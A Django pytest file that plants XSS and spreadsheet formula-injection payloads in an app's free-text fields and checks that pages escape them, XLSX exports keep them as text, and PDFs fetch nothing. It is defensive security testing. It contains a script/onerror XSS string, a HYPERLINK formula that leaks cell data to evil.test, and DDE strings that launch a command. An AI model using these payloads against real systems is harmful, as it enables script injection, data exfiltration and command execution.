"""Stored XSS: a payload in every free-text field comes out escaped in pages, as text in
exports (never a formula) and as plain text in PDFs (nothing fetched while rendering).

One organization where every free-text field a user can fill holds PAYLOAD (or, for export
cells, a formula-looking variant): organization and department names (ru/en), person names,
criterion names/descriptions, the open question, the cycle name, answer comments and open
answers, an action plan's title/description/result note, an appeal's text and decision
reason, a hide-comment reason. Then every page that shows them is rendered as the roles that
see them.
"""

import io
import zipfile
from types import SimpleNamespace

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from innerclient.actions.models import ActionPlan
from innerclient.appeals.services import appeal_decide, appeal_file
from innerclient.core.models import Role
from innerclient.regulation.services import regulation_publish
from innerclient.reports.services import comment_hide
from innerclient.surveys.models import OpenAnswer, OpenQuestion
from tests.actions.factories import make_action
from tests.appeals.factories import member
from tests.factories import DepartmentFactory, OrganizationFactory, PersonFactory
from tests.regulation.pdftext import pdf_text
from tests.results.factories import closed_cycle, plant_response, publish
from tests.surveys.factories_rater import rater_world

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("xss")</script>'
PAYLOAD = SCRIPT + "<img src=x onerror=alert(1)>\"'"
ESCAPED_SCRIPT = "&lt;script&gt;alert(&quot;xss&quot;)&lt;/script&gt;"
RAW_MARKERS = [SCRIPT, "<img src=x onerror", "onerror=alert(1)>"]
# Spreadsheet formula injection: values a spreadsheet would run as a formula.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _world():
    org = OrganizationFactory(name=PAYLOAD)
    provider = DepartmentFactory(
        organization=org, code="P", name_ru=PAYLOAD, name_en=PAYLOAD + " en"
    )
    low = DepartmentFactory(
        organization=org, code="A", name_ru=FORMULAS["="], name_en=FORMULAS["="]
    )
    high = DepartmentFactory(organization=org, code="B", name_ru=PAYLOAD, name_en=FORMULAS["+"])
    person = PersonFactory(department=provider, full_name=PAYLOAD, position=PAYLOAD)
    cycle = closed_cycle(org, name=PAYLOAD[:120])
    criteria = list(cycle.criteria_set.criteria.order_by("position", "id"))
    for criterion in criteria[:2]:
        criterion.name_ru = criterion.name_en = PAYLOAD
        criterion.description_ru = criterion.description_en = PAYLOAD
        criterion.save()
    question = OpenQuestion.objects.create(
        criteria_set=cycle.criteria_set, code="change", text_ru=PAYLOAD, text_en=PAYLOAD
    )
    responses = [
        plant_response(cycle, provider=provider, client=low, scores=[2] * 8, comment=PAYLOAD)
        for _ in range(6)
    ]
    responses += [
        plant_response(cycle, provider=provider, client=high, scores=[5] * 8, comment=FORMULAS["-"])
        for _ in range(6)
    ]
    for response in responses[:6]:
        OpenAnswer.objects.create(response=response, question=question, text=PAYLOAD)
    for response in responses[6:]:
        OpenAnswer.objects.create(response=response, question=question, text=FORMULAS["@"])
    coordinator = member(org, Role.COORDINATOR, name="Olga Coordinator")
    analyst = member(org, Role.ANALYST)
    head = member(org, Role.HEAD, provider)
    cycle = publish(cycle, actor=coordinator)
    hidden = responses[0].answers.order_by("criterion__position").first()
    comment_hide(
        actor=coordinator, organization=org, kind="answer", comment_id=hidden.pk, reason=PAYLOAD
    )
    actions = [
        make_action(
            department=provider,
            owner=person,
            title=PAYLOAD,
            description=PAYLOAD,
            result_note=PAYLOAD,
        ),
        make_action(
            department=provider,
            owner=person,
            title=FORMULAS["="],
            description=FORMULAS["+"],
            result_note=FORMULAS["@"],
            status=ActionPlan.Status.DONE,
        ),
    ]
    appeal = appeal_file(
        actor=coordinator,
        cycle=cycle,
        department=provider,
        kind="client_view",
        client_department=low,
        text=PAYLOAD,
    )
    appeal = appeal_decide(actor=coordinator, appeal=appeal, upheld=False, reason=PAYLOAD)
    regulation_publish(actor=coordinator, organization=org, cycle=cycle)
    return SimpleNamespace(
        org=org,
        provider=provider,
        low=low,
        high=high,
        person=person,
        cycle=cycle,
        coordinator=coordinator,
        analyst=analyst,
        head=head,
        actions=actions,
        appeal=appeal,
    )


@pytest.fixture
def world(db):
    return _world()


def _browser(user, language="en") -> Client:
    browser = Client(HTTP_ACCEPT_LANGUAGE=language)
    browser.force_login(user)
    return browser


def _org_url(world, name, **kwargs):
    return reverse(name, kwargs={"org_slug": world.org.slug, **kwargs})


def _pages(w):
    cycle, provider = w.cycle.pk, w.provider.pk
    return [
        ("org:home", {}),
        ("org:department_tree", {}),
        ("org:department_detail", {"pk": provider}),
        ("org:person_list", {}),
        ("org:map_matrix", {}),
        ("org:link_list", {}),
        ("org:cycle_list", {}),
        ("org:cycle_detail", {"pk": cycle}),
        ("org:criteria_list", {}),
        ("org:criteria_edit", {"pk": w.cycle.criteria_set_id}),
        ("org:cycle_results", {"pk": cycle}),
        ("org:department_result", {"pk": cycle, "department_pk": provider}),
        ("org:results_dashboard", {"pk": cycle}),
        ("org:department_card", {"pk": cycle, "department_pk": provider}),
        ("org:action_list", {}),
        ("org:action_edit", {"pk": w.actions[0].pk}),
        ("org:appeal_list", {}),
        ("org:appeal_detail", {"pk": w.appeal.pk}),
        ("org:bonus", {}),
        ("org:regulation", {}),
        ("org:regulation_version", {"version": "1"}),
        ("org:audit_log", {}),
        ("org:member_list", {}),
        ("org:methodology", {}),
    ]


def _assert_escaped(text, where):
    for marker in RAW_MARKERS:
        assert marker not in text, f"unescaped {marker!r} in {where}"


@pytest.mark.parametrize("language", ["en", "ru"])
def test_pages_show_the_payload_escaped(world, language):
    failures = []
    coordinator = _browser(world.coordinator, language)
    for name, kwargs in _pages(world):
        url = _org_url(world, name, **kwargs)
        response = coordinator.get(url)
        assert response.status_code == 200, (name, response.status_code)
        text = response.text
        if any(marker in text for marker in RAW_MARKERS):
            failures.append(name)
        elif ESCAPED_SCRIPT not in text:
            failures.append((name, "payload not shown at all"))
    assert not failures, failures


def test_pages_of_head_and_analyst_show_the_payload_escaped(world):
    cycle, provider = world.cycle.pk, world.provider.pk
    views = [
        (world.head, "org:my_card", {}),
        (world.head, "org:action_list", {}),
        (world.head, "org:appeal_list", {}),
        (world.head, "org:results_dashboard", {"pk": cycle}),
        (world.analyst, "org:department_card", {"pk": cycle, "department_pk": provider}),
        (world.analyst, "org:department_result", {"pk": cycle, "department_pk": provider}),
    ]
    for user, name, kwargs in views:
        response = _browser(user).get(_org_url(world, name, **kwargs), follow=True)
        assert response.status_code == 200, (name, response.status_code)
        _assert_escaped(response.text, name)
        assert ESCAPED_SCRIPT in response.text, name


def test_card_shows_comments_escaped(world):
    """The department card shows the raters' comments and open answers (escaped)."""
    url = _org_url(world, "org:department_card", pk=world.cycle.pk, department_pk=world.provider.pk)
    text = _browser(world.coordinator).get(url).text
    _assert_escaped(text, "card")
    # comments (5 visible, one hidden) + open answers + names: many escaped copies.
    assert text.count(ESCAPED_SCRIPT) >= 6


def test_rater_questionnaire_shows_the_payload_escaped():
    rater = rater_world(raters=1, providers=2)
    org = rater.cycle.organization
    org.name = PAYLOAD
    org.save()
    for department in rater.providers:
        department.name_ru = department.name_en = PAYLOAD
        department.save()
    rater.cycle.name = PAYLOAD[:120]
    rater.cycle.save()
    for criterion in rater.cycle.criteria_set.criteria.all():
        criterion.name_ru = criterion.name_en = PAYLOAD
        criterion.description_ru = criterion.description_en = PAYLOAD
        criterion.save()
    rater.cycle.criteria_set.open_questions.update(text_ru=PAYLOAD, text_en=PAYLOAD)
    browser = Client(HTTP_ACCEPT_LANGUAGE="en")
    assert browser.get(rater.url()).status_code == 302
    for url in (
        reverse("rater:home"),
        reverse("rater:step", kwargs={"number": 1}),
        reverse("rater:summary"),
    ):
        response = browser.get(url)
        assert response.status_code == 200, url
        _assert_escaped(response.text, url)
        assert ESCAPED_SCRIPT in response.text, url


# --- exports -------------------------------------------------------------------------------------


def _xlsx_cells(content: bytes):
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def _check_xlsx(content, where, expected):
    """No formula cell at all; the formula payloads are there, neutralised (a leading ')."""
    seen = set()
    for sheet, cell in _xlsx_cells(content):
        assert cell.data_type != "f", (where, sheet, cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            value = cell.value
            assert value[:1] not in "=+-@" or not any(
                value.startswith(f) for f in FORMULAS.values()
            ), (where, sheet, cell.coordinate, value)
            for key, formula in FORMULAS.items():
                if formula in value:
                    seen.add(key)
            if PAYLOAD in value:
                seen.add("payload")
    missing = set(expected) - seen
    assert not missing, (where, "payloads not exported", missing)


EXPORTS = {
    "org:map_export": ({}, {"=", "payload"}),
    "org:dashboard_export": ({"pk": "cycle"}, {"=", "payload"}),
    "org:card_export": ({"pk": "cycle", "department_pk": "provider"}, {"="}),
    "org:action_export": ({}, {"=", "+", "@", "payload"}),
    "org:bonus_export": ({}, {"payload"}),
}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_xlsx_exports_hold_text_never_formulas(world, name):
    kwargs, expected = EXPORTS[name]
    objects = {"cycle": world.cycle.pk, "provider": world.provider.pk}
    response = _browser(world.coordinator).get(
        _org_url(world, name, **{k: objects[v] for k, v in kwargs.items()})
    )
    assert response.status_code == 200, response.status_code
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert zipfile.is_zipfile(io.BytesIO(content)), (name, response["Content-Type"])
    _check_xlsx(content, name, expected)


# --- PDFs ----------------------------------------------------------------------------------------


@pytest.fixture
def fetched(monkeypatch):
    """Every URL WeasyPrint is asked to fetch while rendering."""
    from innerclient.regulation import pdf

    urls = []
    fetcher = pdf.StaticOnlyFetcher.get()
    original = fetcher.fetch

    def fetch(url, *args, **kwargs):
        urls.append(url)
        return original(url, *args, **kwargs)

    monkeypatch.setattr(fetcher, "fetch", fetch)
    return urls


@pytest.mark.parametrize(
    ("name", "kwargs"),
    [
        ("org:card_pdf", {"pk": "cycle", "department_pk": "provider"}),
        ("org:regulation_pdf", {"version": "1"}),
    ],
)
def test_pdfs_hold_the_payload_as_plain_text(world, fetched, name, kwargs):
    objects = {"cycle": world.cycle.pk, "provider": world.provider.pk, "1": "1"}
    url = _org_url(world, name, **{k: objects[v] for k, v in kwargs.items()})
    response = _browser(world.coordinator).get(url)
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    assert content.startswith(b"%PDF")
    text = pdf_text(content)
    assert SCRIPT in text, text[:500]
    assert "<img src=x onerror=alert(1)>" in text
    # No <img src=x> was turned into a fetch; no JavaScript action in the file.
    assert not [u for u in fetched if u.rstrip("/").endswith("/x") or u == "x"], fetched
    assert b"/JavaScript" not in content and b"/JS " not in content
